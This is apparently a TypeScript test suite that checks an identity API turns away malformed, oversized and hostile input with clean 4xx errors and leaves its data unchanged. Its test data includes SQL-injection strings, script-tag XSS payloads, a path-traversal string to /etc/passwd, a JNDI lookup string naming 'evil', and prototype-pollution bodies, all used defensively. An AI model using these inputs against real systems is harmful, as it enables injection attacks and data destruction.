/**
 * Table-driven bad input: malformed JSON, bad UTF-8, wrong media types, huge
 * bodies, wrong types, unknown fields, SQL and HTML metacharacters, bad path
 * and query parameters, and requests the domain refuses. Each gets its 4xx and
 * stable code in the error envelope, never a 500 or a stack trace, and none of
 * them leaves anything behind: row counts and the audit chain are unchanged.
 */
import { randomUUID } from "node:crypto";
import { sql } from "kysely";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { z } from "zod";
import type { LightMyRequestResponse } from "fastify";
import { ERROR_CODES, type ErrorCode } from "../../src/lib/errors.js";
import { ENGINES } from "../../src/testing/engines.js";
import { passwordFor, testServer, type TestServer } from "../../src/testing/server.js";

const MIB = 1024 * 1024;
const JSON_TYPE = "application/json";

interface Case {
  name: string;
  method?: "GET" | "POST" | "PUT" | "PATCH" | "DELETE";
  url: string;
  /** An object is sent as JSON; a string or Buffer is sent as is; absent means no body. */
  body?: unknown;
  /** Defaults to application/json when there is a body; null sends none. */
  contentType?: string | null;
  /** Replaces the administrator's Authorization header ("" sends none). */
  authorization?: string;
  status: number;
  code: ErrorCode;
}

const raw = (...parts: (string | number[] | Buffer)[]) =>
  Buffer.concat(parts.map((p) => (typeof p === "string" ? Buffer.from(p, "utf8") : Buffer.from(p))));

const SQL = "'; drop table principals; --";
const EXCHANGE = encodeURIComponent("urn:ietf:params:oauth:grant-type:token-exchange");
const JWT_TYPE = encodeURIComponent("urn:ietf:params:oauth:token-type:jwt");
const FORM = "application/x-www-form-urlencoded";
const SQL2 = "robert'); DROP TABLE groups;--";
const HTML = "<script>alert(1)</script>";
const ATTR = '" onmouseover="alert(1)';
const BAD_NAMES = [
  SQL,
  SQL2,
  HTML,
  ATTR,
  "../../etc/passwd",
  "a b",
  "Admin",
  "\u0430dmin", // Cyrillic a
  "",
  "a".repeat(65),
  "x\u0000y",
  "x\ud800y",
  "${jndi:ldap://evil/a}",
  "-leading-dash",
];

const deepArray = (n: number) => "[".repeat(n) + "]".repeat(n);
const deepObject = (n: number) => '{"a":'.repeat(n) + "1" + "}".repeat(n);

const TARGET = "bad-target";
const SERVICE = "bad-svc";
const GROUP = "bad-group";

const CASES: Case[] = [
  // ── Malformed JSON in valid UTF-8
  ...(
    [
      ["truncated", '{"name":'],
      ["unquoted key", '{name:"x"}'],
      ["single quotes", "{'name':'x'}"],
      ["trailing comma", '{"name":"x",}'],
      ["comment", '// hi\n{"name":"x"}'],
      ["trailing garbage", '{"name":"x"} trailing'],
      ["two documents", '{"name":"x"}{"name":"y"}'],
      ["NaN", '{"name":NaN}'],
      ["raw newline inside a string", '{"name":"a\nb"}'],
      ["raw NUL byte inside a string", '{"name":"a\u0000b"}'],
      ["form data sent as JSON", "name=x&kind=user"],
      ["UTF-16LE without a BOM", Buffer.from('{"name":"x"}', "utf16le")],
    ] as const
  ).map(([what, body]): Case => ({
    name: `malformed JSON: ${what}`,
    url: "/v1/users",
    body,
    status: 400,
    code: "BAD_JSON",
  })),
  {
    name: "malformed JSON on login is refused before any sign-in attempt",
    url: "/v1/auth/login",
    body: '{"username":"admin","password":',
    authorization: "",
    status: 400,
    code: "BAD_JSON",
  },

  // ── Bytes that are not UTF-8
  ...(
    [
      ["Latin-1 é", raw('{"name":"caf', [0xe9], '"}')],
      ["overlong '/'", raw('{"name":"a', [0xc0, 0xaf], '"}')],
      ["UTF-8-encoded surrogate", raw('{"name":"a', [0xed, 0xa0, 0x80], '"}')],
      ["truncated sequence at the end", raw('{"name":"x"}', [0xe2, 0x82])],
      ["stray continuation byte", raw('{"name":"', [0x80], '"}')],
      ["UTF-16 with a BOM", raw([0xff, 0xfe], Buffer.from('{"name":"x"}', "utf16le"))],
      ["0xFF in a free-text field", raw('{"name":"enc-ok","displayName":"', [0xff], '"}')],
    ] as const
  ).map(([what, body]): Case => ({
    name: `bad UTF-8: ${what}`,
    url: "/v1/users",
    body,
    status: 400,
    code: "BAD_ENCODING",
  })),
  {
    name: "bad UTF-8 in a password",
    url: "/v1/auth/login",
    body: raw('{"username":"admin","password":"', [0xff, 0xfe], '"}'),
    authorization: "",
    status: 400,
    code: "BAD_ENCODING",
  },

  // ── RFC 8693 token exchange (a form or JSON, anonymous)
  ...(
    [
      ["no subject_token", FORM, `grant_type=${EXCHANGE}&subject_token_type=${JWT_TYPE}`, 400, "VALIDATION_FAILED"],
      [
        "a parameter given twice",
        FORM,
        `grant_type=${EXCHANGE}&grant_type=${EXCHANGE}&subject_token=a.b.c&subject_token_type=${JWT_TYPE}`,
        400,
        "VALIDATION_FAILED",
      ],
      [
        "another grant type",
        FORM,
        `grant_type=password&subject_token=a.b.c&subject_token_type=${JWT_TYPE}`,
        400,
        "VALIDATION_FAILED",
      ],
      [
        "a subject token over 16 KiB",
        FORM,
        `grant_type=${EXCHANGE}&subject_token=${"a".repeat(17_000)}&subject_token_type=${JWT_TYPE}`,
        400,
        "VALIDATION_FAILED",
      ],
      ["a form over 32 KiB", FORM, `grant_type=${EXCHANGE}&pad=${"a".repeat(40_000)}`, 413, "PAYLOAD_TOO_LARGE"],
      ["text/plain", "text/plain", `grant_type=${EXCHANGE}`, 415, "UNSUPPORTED_MEDIA_TYPE"],
    ] as const
  ).map(([what, contentType, body, status, code]): Case => ({
    name: `token exchange: ${what}`,
    url: "/v1/auth/token-exchange",
    body,
    contentType,
    authorization: "",
    status,
    code,
  })),

  // ── Media types other than JSON
  ...(
    [
      ["text/plain", "text/plain", '{"name":"x"}'],
      ["form-urlencoded", "application/x-www-form-urlencoded", "name=x"],
      [
        "multipart",
        "multipart/form-data; boundary=xyz",
        '--xyz\r\nContent-Disposition: form-data; name="name"\r\n\r\nx',
      ],
      ["XML", "application/xml", "<name>x</name>"],
      ["a lookalike of JSON", "application/jsonx", '{"name":"x"}'],
      ["no Content-Type with a body", null, '{"name":"x"}'],
    ] as const
  ).map(([what, contentType, body]): Case => ({
    name: `media type: ${what}`,
    url: "/v1/users",
    body,
    contentType,
    status: 415,
    code: "UNSUPPORTED_MEDIA_TYPE",
  })),

  // ── Huge bodies (the limit is 1 MiB)
  {
    name: "huge body: 1 MiB + 1 byte of valid JSON",
    url: "/v1/users",
    body: `{"name":"huge","displayName":"${"x".repeat(MIB - 31)}"}`,
    status: 413,
    code: "PAYLOAD_TOO_LARGE",
  },
  {
    name: "huge body: 2 MiB on the login route",
    url: "/v1/auth/login",
    body: `{"username":"admin","password":"${"p".repeat(2 * MIB)}"}`,
    authorization: "",
    status: 413,
    code: "PAYLOAD_TOO_LARGE",
  },
  {
    name: "huge body: on a route that takes no body",
    url: `/v1/users/${TARGET}/enable`,
    body: Buffer.alloc(MIB + 1, 0x20),
    status: 413,
    code: "PAYLOAD_TOO_LARGE",
  },
  {
    name: "large body under the limit with an overlong field",
    url: "/v1/users",
    body: { name: "big-field", displayName: "x".repeat(MIB - 100) },
    status: 400,
    code: "VALIDATION_FAILED",
  },

  // ── JSON of the wrong shape, or no body at all
  ...(
    [
      ["JSON null", "null"],
      ["an array", '[{"name":"x"}]'],
      ["a string", '"x"'],
      ["a number", "42"],
      ["true", "true"],
      ["an empty object", "{}"],
      ["an empty body", ""],
      ["only whitespace", " \n\t "],
      ["deeply nested arrays", deepArray(100_000)],
      ["deeply nested objects", deepObject(100_000)],
      ["deep nesting inside a field", `{"name":"deep","displayName":${deepArray(100_000)}}`],
      ["duplicated keys (the last one wins)", '{"name":"dup-first","name":"Bad Name"}'],
    ] as const
  ).map(([what, body]): Case => ({
    name: `shape: ${what}`,
    url: "/v1/users",
    body,
    status: 400,
    code: "VALIDATION_FAILED",
  })),
  { name: "shape: missing body on POST", url: "/v1/users", status: 400, code: "VALIDATION_FAILED" },
  {
    name: "shape: missing body on disable",
    url: `/v1/users/${TARGET}/disable`,
    status: 400,
    code: "VALIDATION_FAILED",
  },

  // ── Wrong types
  ...(
    [
      ["name is a number", "/v1/users", { name: 123 }],
      ["name is a boolean", "/v1/users", { name: true }],
      ["name is null", "/v1/users", { name: null }],
      ["name is an array", "/v1/users", { name: ["x"] }],
      ["name is an object", "/v1/users", { name: { first: "x" } }],
      ["platformRoles is a string", "/v1/users", { name: "t1", platformRoles: "admin" }],
      ["platformRoles names an unknown role", "/v1/users", { name: "t2", platformRoles: ["root"] }],
      ["platformRoles is empty", "/v1/users", { name: "t3", platformRoles: [] }],
      ["platformRoles is too long", "/v1/users", { name: "t4", platformRoles: Array(5).fill("admin") }],
      ["kind is unknown", "/v1/users", { name: "t5", kind: "robot" }],
      ["email is not an email", "/v1/users", { name: "t6", email: "not-an-email" }],
      ["email is a number", "/v1/users", { name: "t7", email: 42 }],
      ["displayName is blank", "/v1/users", { name: "t8", displayName: "   " }],
      ["displayName is too long", "/v1/users", { name: "t9", displayName: "x".repeat(201) }],
      ["displayName holds NUL", "/v1/users", { name: "t10", displayName: "a\u0000b" }],
      ["displayName holds an unpaired surrogate", "/v1/users", { name: "t11", displayName: "a\ud800b" }],
      ["password is too short", "/v1/users", { name: "t12", password: "short" }],
      ["password is a number", "/v1/users", { name: "t13", password: 123456789012345 }],
      ["expiresIn is a number", "/v1/tokens", { name: "k1", principal: SERVICE, expiresIn: 30 }],
      ["expiresIn is not a duration", "/v1/tokens", { name: "k2", principal: SERVICE, expiresIn: "forever" }],
      ["group description is too long", "/v1/groups", { name: "g1", description: "x".repeat(501) }],
      ["member principal is missing", `/v1/groups/${GROUP}/members`, {}],
      ["username is a number", "/v1/auth/login", { username: 1, password: "x" }],
      ["username is too long", "/v1/auth/login", { username: "a".repeat(65), password: "x" }],
      ["password is too long", "/v1/auth/login", { username: "admin", password: "x".repeat(1025) }],
      ["otp is too short", "/v1/auth/login", { username: "admin", password: "x", otp: "12" }],
      ["username holds NUL", "/v1/auth/login", { username: "ad\u0000min", password: "x" }],
      ["refreshToken is a number", "/v1/auth/refresh", { refreshToken: 1 }],
      ["refreshToken is too long", "/v1/auth/refresh", { refreshToken: "r".repeat(513) }],
      ["currentPassword is a number", "/v1/me/password", { currentPassword: 1, newPassword: "long-enough-pass" }],
      ["TOTP code is not six digits", "/v1/me/mfa/totp/confirm", { code: "12345a" }],
    ] as const
  ).map(([what, url, body]): Case => ({
    name: `wrong type: ${what}`,
    url,
    body,
    status: 400,
    code: "VALIDATION_FAILED",
  })),
  {
    name: "wrong type: disable reason holds a control character",
    url: `/v1/users/${TARGET}/disable`,
    body: { reason: "bell \u0007" },
    status: 400,
    code: "VALIDATION_FAILED",
  },
  {
    name: "wrong type: disable reason is too long",
    url: `/v1/users/${TARGET}/disable`,
    body: { reason: "r".repeat(1001) },
    status: 400,
    code: "VALIDATION_FAILED",
  },

  // ── Unknown fields (mass assignment, prototype pollution)
  ...(
    [
      ["isAdmin on create", "POST", "/v1/users", { name: "u1", isAdmin: true }],
      ["id on create", "POST", "/v1/users", { name: "u2", id: randomUUID() }],
      ["status on create", "POST", "/v1/users", { name: "u3", status: "active" }],
      ["__proto__", "POST", "/v1/users", '{"name":"u4","__proto__":{"platformRoles":["admin"]}}'],
      ["constructor.prototype", "POST", "/v1/users", { name: "u5", constructor: { prototype: { isAdmin: true } } }],
      ["status on update", "PATCH", `/v1/users/${TARGET}`, { status: "disabled" }],
      ["name on update", "PATCH", `/v1/users/${TARGET}`, { name: "renamed" }],
      ["kind on update", "PATCH", `/v1/users/${TARGET}`, { kind: "service" }],
      ["remember on login", "POST", "/v1/auth/login", { username: "admin", password: "x", remember: true }],
      ["scope on a token", "POST", "/v1/tokens", { name: "k3", principal: SERVICE, scope: "*" }],
      ["members on a group", "POST", "/v1/groups", { name: "g2", members: ["admin"] }],
    ] as const
  ).map(([what, method, url, body]): Case => ({
    name: `unknown field: ${what}`,
    method,
    url,
    body,
    status: 400,
    code: "VALIDATION_FAILED",
  })),

  // ── Names with SQL and HTML metacharacters, in every place a name is accepted
  ...BAD_NAMES.flatMap((bad): Case[] =>
    (
      [
        ["user", "/v1/users", { name: bad }],
        ["manager", "/v1/users", { name: "with-manager", manager: bad }],
        ["group", "/v1/groups", { name: bad }],
        ["group member", `/v1/groups/${GROUP}/members`, { principal: bad }],
        ["token", "/v1/tokens", { name: bad, principal: SERVICE }],
        ["token principal", "/v1/tokens", { name: "tok", principal: bad }],
      ] as const
    ).map(([where, url, body]) => ({
      name: `bad ${where} name ${JSON.stringify(bad).slice(0, 40)}`,
      url,
      body,
      status: 400,
      code: "VALIDATION_FAILED",
    })),
  ),

  // ── Requests the domain refuses: nothing may be left half-done
  { name: "domain: user exists", url: "/v1/users", body: { name: TARGET }, status: 409, code: "ALREADY_EXISTS" },
  {
    name: "domain: service with a password",
    url: "/v1/users",
    body: { name: "svc-pw", kind: "service", password: "long-enough-pass-123" },
    status: 400,
    code: "VALIDATION_FAILED",
  },
  {
    name: "domain: password contains the name",
    url: "/v1/users",
    body: { name: "weakling", password: "weakling-password-123" },
    status: 400,
    code: "WEAK_PASSWORD",
  },
  {
    name: "domain: manager does not exist",
    url: "/v1/users",
    body: { name: "orphan", manager: "no-such-user" },
    status: 404,
    code: "NOT_FOUND",
  },
  {
    name: "domain: manager is a service",
    url: "/v1/users",
    body: { name: "managed-by-svc", manager: SERVICE },
    status: 400,
    code: "VALIDATION_FAILED",
  },
  {
    name: "domain: own manager",
    method: "PATCH",
    url: `/v1/users/${TARGET}`,
    body: { displayName: "Changed", manager: TARGET },
    status: 400,
    code: "VALIDATION_FAILED",
  },
  {
    name: "domain: demote the last administrator",
    method: "PATCH",
    url: "/v1/users/admin",
    body: { displayName: "Changed", platformRoles: ["user"] },
    status: 409,
    code: "CONFLICT",
  },
  {
    name: "domain: disable the last administrator",
    url: "/v1/users/admin/disable",
    body: { reason: "test" },
    status: 409,
    code: "CONFLICT",
  },
  {
    name: "domain: password for a service",
    method: "PUT",
    url: `/v1/users/${SERVICE}/password`,
    body: { password: "long-enough-pass-123" },
    status: 400,
    code: "VALIDATION_FAILED",
  },
  {
    name: "domain: weak password for a user",
    method: "PUT",
    url: `/v1/users/${TARGET}/password`,
    body: { password: "aaaaaaaaaaaaaaaa" },
    status: 400,
    code: "WEAK_PASSWORD",
  },
  { name: "domain: group exists", url: "/v1/groups", body: { name: GROUP }, status: 409, code: "ALREADY_EXISTS" },
  {
    name: "domain: no such group",
    url: "/v1/groups/no-such-group/members",
    body: { principal: TARGET },
    status: 404,
    code: "NOT_FOUND",
  },
  {
    name: "domain: no such member",
    url: `/v1/groups/${GROUP}/members`,
    body: { principal: "no-such-user" },
    status: 404,
    code: "NOT_FOUND",
  },
  {
    name: "domain: token for a person",
    url: "/v1/tokens",
    body: { name: "k4", principal: TARGET },
    status: 400,
    code: "VALIDATION_FAILED",
  },
  {
    name: "domain: token for nobody",
    url: "/v1/tokens",
    body: { name: "k5", principal: "no-such-svc" },
    status: 404,
    code: "NOT_FOUND",
  },
  {
    name: "domain: token lifetime too short",
    url: "/v1/tokens",
    body: { name: "k6", principal: SERVICE, expiresIn: "0s" },
    status: 400,
    code: "VALIDATION_FAILED",
  },
  {
    name: "domain: token lifetime too long",
    url: "/v1/tokens",
    body: { name: "k7", principal: SERVICE, expiresIn: "999d" },
    status: 400,
    code: "VALIDATION_FAILED",
  },
  {
    name: "domain: no such token",
    method: "DELETE",
    url: `/v1/tokens/${randomUUID()}`,
    status: 404,
    code: "NOT_FOUND",
  },

  // ── Path parameters
  ...(
    [
      ["65 characters", "GET", `/v1/users/${"a".repeat(65)}`, 400, "VALIDATION_FAILED"],
      ["beyond the router's limit", "GET", `/v1/users/${"a".repeat(500)}`, 400, "VALIDATION_FAILED"],
      ["bad percent-encoding", "GET", "/v1/users/%E0%A4%A", 400, "VALIDATION_FAILED"],
      ["percent-encoded bytes that are not UTF-8", "GET", "/v1/users/%ff%fe", 400, "VALIDATION_FAILED"],
      ["NUL", "GET", "/v1/users/a%00b", 400, "VALIDATION_FAILED"],
      ["SQL", "GET", `/v1/users/${encodeURIComponent(SQL)}`, 404, "NOT_FOUND"],
      ["HTML", "GET", `/v1/users/${encodeURIComponent(HTML)}`, 404, "NOT_FOUND"],
      ["SQL on update", "PATCH", `/v1/users/${encodeURIComponent(SQL)}`, 404, "NOT_FOUND"],
      ["SQL on enable", "POST", `/v1/users/${encodeURIComponent(SQL)}/enable`, 404, "NOT_FOUND"],
      ["token id not a uuid", "DELETE", "/v1/tokens/not-a-uuid", 400, "VALIDATION_FAILED"],
      ["token id is SQL", "DELETE", `/v1/tokens/${encodeURIComponent("' or 1=1 --")}`, 400, "VALIDATION_FAILED"],
      ["member 65 characters", "DELETE", `/v1/groups/${GROUP}/members/${"a".repeat(65)}`, 400, "VALIDATION_FAILED"],
      ["member NUL", "DELETE", `/v1/groups/${GROUP}/members/a%00`, 400, "VALIDATION_FAILED"],
      ["member SQL", "DELETE", `/v1/groups/${GROUP}/members/${encodeURIComponent(SQL)}`, 404, "NOT_FOUND"],
      ["group SQL", "DELETE", `/v1/groups/${encodeURIComponent(SQL)}/members/${TARGET}`, 404, "NOT_FOUND"],
    ] as const
  ).map(([what, method, url, status, code]): Case => ({
    name: `path parameter: ${what}`,
    method,
    url,
    ...(method === "PATCH" ? { body: { displayName: "x" } } : {}),
    status,
    code,
  })),

  // ── Query strings
  ...[
    "limit=abc",
    "limit=0",
    "limit=1001",
    "limit=1.5",
    "limit=-1",
    "limit=1&limit=2",
    "afterSeq=-1",
    "afterSeq=1e309",
    `afterSeq=${encodeURIComponent("1 or 1=1 --")}`,
    "since=yesterday",
    "since=2026-13-45T00:00:00Z",
    "since=2026-01-01",
    "since=%00",
    "foo=bar",
    "limit=10&orderBy=seq",
  ].map((query): Case => ({
    name: `query: /v1/audit/events?${query}`,
    method: "GET",
    url: `/v1/audit/events?${query}`,
    status: 400,
    code: "VALIDATION_FAILED",
  })),
  ...["format=xml", "format=jsonl&extra=1", "since=not-a-time"].map((query): Case => ({
    name: `query: /v1/audit/export?${query}`,
    method: "GET",
    url: `/v1/audit/export?${query}`,
    status: 400,
    code: "VALIDATION_FAILED",
  })),

  // ── Sessions: tokens, certificates, kills
  ...[{}, { role: SQL }, { role: "x", once: "yes" }, { role: "x", extra: 1 }].map((body): Case => ({
    name: `db token ${JSON.stringify(body).slice(0, 40)}`,
    method: "POST",
    url: "/v1/db/tokens",
    body,
    status: 400,
    code: "VALIDATION_FAILED",
  })),
  {
    name: "db token without activation",
    method: "POST",
    url: "/v1/db/tokens",
    body: { role: "nope" },
    status: 409,
    code: "NOT_ACTIVE",
  },
  ...[
    {},
    { publicKey: HTML },
    { publicKey: "ssh-dss AAAAB3NzaC1kc3M=" },
    { publicKey: `ssh-ed25519 ${"A".repeat(20000)}` },
    { publicKey: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOsfdPq9o7iVkMa1fJh3yQK0u6kd8nIo6ba2AjVfnM8j", role: SQL },
  ].map((body): Case => ({
    name: `ssh certificate ${JSON.stringify(body).slice(0, 40)}`,
    method: "POST",
    url: "/v1/ssh/certificates",
    body,
    status: 400,
    code: "VALIDATION_FAILED",
  })),
  {
    name: "session id not a uuid",
    method: "GET",
    url: `/v1/sessions/${encodeURIComponent(SQL)}`,
    status: 400,
    code: "VALIDATION_FAILED",
  },
  {
    name: "kill without reason",
    method: "POST",
    url: `/v1/sessions/${randomUUID()}/kill`,
    body: {},
    status: 400,
    code: "VALIDATION_FAILED",
  },
  {
    name: "kill an unknown session",
    method: "POST",
    url: `/v1/sessions/${randomUUID()}/kill`,
    body: { reason: "testing bad input handling" },
    status: 404,
    code: "NOT_FOUND",
  },
  {
    name: "recording of an unknown session",
    method: "GET",
    url: `/v1/sessions/${randomUUID()}/recording`,
    status: 404,
    code: "NOT_FOUND",
  },

  // ── Credentials that are not credentials
  ...[
    "Basic YWRtaW46YWRtaW4=",
    `Bearer ${HTML}`,
    `Bearer ${SQL}`,
    `Bearer ${"a".repeat(5000)}`,
    "Bearer stint_not_a_token",
    "Bearer",
  ].map((authorization): Case => ({
    name: `authorization: ${authorization.slice(0, 30)}`,
    method: "GET",
    url: "/v1/users",
    authorization,
    status: 401,
    code: "UNAUTHENTICATED",
  })),

  // ── Endpoints and methods that do not exist
  { name: "no such method", method: "PATCH", url: "/v1/users", body: {}, status: 404, code: "ROUTE_NOT_FOUND" },
  {
    name: "no such endpoint",
    method: "GET",
    url: `/v1/${encodeURIComponent(HTML)}`,
    status: 404,
    code: "ROUTE_NOT_FOUND",
  },
];

const envelope = z.strictObject({
  error: z.strictObject({
    code: z.enum(Object.keys(ERROR_CODES) as [ErrorCode, ...ErrorCode[]]),
    message: z.string().min(1),
    details: z.record(z.string(), z.unknown()).optional(),
  }),
});

/** Traces of a stack, a source path or an internal error in a response. */
const LEAKS = [
  /\n\s+at\s/,
  /\bat\s+\S+\s+\(/,
  /\.(?:ts|js|mjs|cjs):\d+/,
  /node_modules/,
  /file:\/\//,
  new RegExp(process.cwd().replace(/[.*+?^${}()|[\]\\]/g, "\\$&")),
  /\bSQLSTATE\b|syntax error at or near|violates .* constraint|relation ".*" does not exist/i,
  /FST_ERR_/,
];

const TABLES = [
  "principals",
  "password_credentials",
  "groups",
  "group_members",
  "api_tokens",
  "refresh_sessions",
  "mfa_totp",
  "audit_events",
  "outbox",
] as const;

function expectNoLeak(res: LightMyRequestResponse, label: string) {
  const text = `${JSON.stringify(res.headers)}\n${res.body}`;
  for (const leak of LEAKS) expect(text, `${label}: response leaks ${leak}`).not.toMatch(leak);
}

describe.each(ENGINES)("bad input (%s)", (engine) => {
  let server: TestServer;
  let before: Record<string, number>;

  async function counts(): Promise<Record<string, number>> {
    await server.audit.catchUp(); // audit_events holds what committed once it is chained
    const result: Record<string, number> = {};
    for (const table of TABLES) {
      const { rows } = await sql<{ n: number }>`select count(*)::int as n from ${sql.table(table)}`.execute(
        server.store.db,
      );
      result[table] = Number(rows[0]!.n);
    }
    return result;
  }

  async function send(c: Case): Promise<LightMyRequestResponse> {
    const headers: Record<string, string> = {};
    const authorization = c.authorization ?? server.adminAuth;
    if (authorization !== "") headers.authorization = authorization;
    let payload: string | Buffer | undefined;
    if (c.body !== undefined) {
      payload = typeof c.body === "string" || Buffer.isBuffer(c.body) ? c.body : JSON.stringify(c.body);
      const type = c.contentType === undefined ? JSON_TYPE : c.contentType;
      if (type !== null) headers["content-type"] = type;
    }
    return server.app.inject({
      method: c.method ?? "POST",
      url: c.url,
      headers,
      ...(payload !== undefined ? { payload } : {}),
    });
  }

  beforeAll(async () => {
    server = await testServer(engine);
    await server.userWithRoles(TARGET, ["user"]);
    const admin = { authorization: server.adminAuth };
    for (const [url, payload] of [
      ["/v1/users", { name: SERVICE, kind: "service" }],
      ["/v1/groups", { name: GROUP }],
    ] as const) {
      const res = await server.app.inject({ method: "POST", url, headers: admin, payload });
      expect(res.statusCode, res.body).toBe(201);
    }
    before = await counts();
  });

  afterAll(async () => {
    await server?.cleanup();
  });

  it.each(CASES.map((c) => [c.name, c] as const))("%s", async (_name, c) => {
    const res = await send(c);
    const label = `${c.method ?? "POST"} ${c.url.slice(0, 80)} → ${res.statusCode} ${res.body.slice(0, 300)}`;
    expect(res.statusCode, label).toBe(c.status);
    expect(res.headers["content-type"], label).toMatch(/^application\/json/);
    const body = envelope.safeParse(res.json());
    expect(body.success, `${label}: not the error envelope`).toBe(true);
    expect(body.data?.error.code, label).toBe(c.code);
    expect(body.data?.error.message, label).toBe(body.data?.error.message.trim());
    expectNoLeak(res, label);
  });

  it("left nothing half-written: row counts unchanged, audit chain intact, tables still there", async () => {
    expect(await counts()).toEqual(before);
    const verified = await server.audit.verify();
    expect(verified.ok, JSON.stringify(verified)).toBe(true);
    const users = await server.app.inject({
      method: "GET",
      url: "/v1/users",
      headers: { authorization: server.adminAuth },
    });
    expect(users.statusCode).toBe(200);
    expect(users.json<{ items: { name: string }[] }>().items.map((u) => u.name)).toEqual(
      expect.arrayContaining(["admin", TARGET, SERVICE]),
    );
  });

  // From here on, requests that succeed or are audited: they change the counts on purpose.

  it("stores free text with SQL and HTML metacharacters verbatim and returns it as JSON", async () => {
    const displayName = `${HTML} ${SQL} ${ATTR} & \u00e9\u{1f600}`;
    const description = `${SQL2} <img src=x onerror=alert(1)> \\ " '`;
    const admin = { authorization: server.adminAuth };
    const created = await server.app.inject({
      method: "POST",
      url: "/v1/users",
      headers: { ...admin, "content-type": "application/json; charset=utf-8" },
      payload: JSON.stringify({ name: "free-text", displayName }),
    });
    expect(created.statusCode, created.body).toBe(201);
    expect(created.headers["content-type"]).toMatch(/^application\/json/);
    expect(created.headers["x-content-type-options"]).toBe("nosniff");
    expect(created.json<{ displayName: string }>().displayName).toBe(displayName);
    const fetched = await server.app.inject({ method: "GET", url: "/v1/users/free-text", headers: admin });
    expect(fetched.json<{ displayName: string }>().displayName).toBe(displayName);

    const group = await server.app.inject({
      method: "POST",
      url: "/v1/groups",
      headers: admin,
      payload: { name: "free-text-group", description },
    });
    expect(group.statusCode, group.body).toBe(201);
    expect(group.json<{ description: string }>().description).toBe(description);

    const { rows } = await sql<{
      display_name: string;
    }>`select display_name from principals where name = 'free-text'`.execute(server.store.db);
    expect(rows[0]?.display_name).toBe(displayName);
    expect((await counts()).principals).toBe(before.principals! + 1);
    expect((await server.audit.verify()).ok).toBe(true);
  });

  it("refuses a sign-in with metacharacters in the user name, audits it once and writes nothing else", async () => {
    const start = await counts();
    for (const username of [SQL, HTML]) {
      const res = await server.app.inject({
        method: "POST",
        url: "/v1/auth/login",
        payload: { username, password: "whatever-password" },
      });
      expect(res.statusCode, res.body).toBe(401);
      expect(res.json<{ error: { code: string } }>().error.code).toBe("INVALID_CREDENTIALS");
      expectNoLeak(res, username);
    }
    const end = await counts();
    expect(end).toEqual({ ...start, audit_events: start.audit_events! + 2 });
    expect((await server.audit.verify()).ok).toBe(true);
  });

  it("refuses a token exchange whose subject token is no JWT (SQL and HTML in it), audits it once, writes nothing else", async () => {
    const start = await counts();
    for (const junk of [SQL, HTML]) {
      const res = await server.app.inject({
        method: "POST",
        url: "/v1/auth/token-exchange",
        headers: { "content-type": FORM },
        payload: `grant_type=${EXCHANGE}&subject_token=${encodeURIComponent(junk)}&subject_token_type=${JWT_TYPE}`,
      });
      expect(res.statusCode, res.body).toBe(401);
      expect(res.json<{ error: { code: string } }>().error.code).toBe("WORKLOAD_TOKEN_INVALID");
      expectNoLeak(res, junk);
    }
    const end = await counts();
    expect(end).toEqual({ ...start, audit_events: start.audit_events! + 2 });
    expect((await server.audit.verify()).ok).toBe(true);
  });

  it("accepts a logout without a body, since the body is optional", async () => {
    const auth = await server.login(TARGET, passwordFor(TARGET));
    const res = await server.app.inject({ method: "POST", url: "/v1/auth/logout", headers: { authorization: auth } });
    expect(res.statusCode, res.body).toBe(200);
    const after = await server.app.inject({ method: "GET", url: "/v1/me", headers: { authorization: auth } });
    expect(after.statusCode).toBe(401);
  });

  it("does not echo a request id that is not well-formed", async () => {
    const res = await server.app.inject({ method: "GET", url: "/healthz", headers: { "x-request-id": HTML } });
    expect(res.statusCode).toBe(200);
    expect(res.headers["x-request-id"]).not.toBe(HTML);
    expect(String(res.headers["x-request-id"])).toMatch(/^[A-Za-z0-9._:-]{8,128}$/);
  });
});
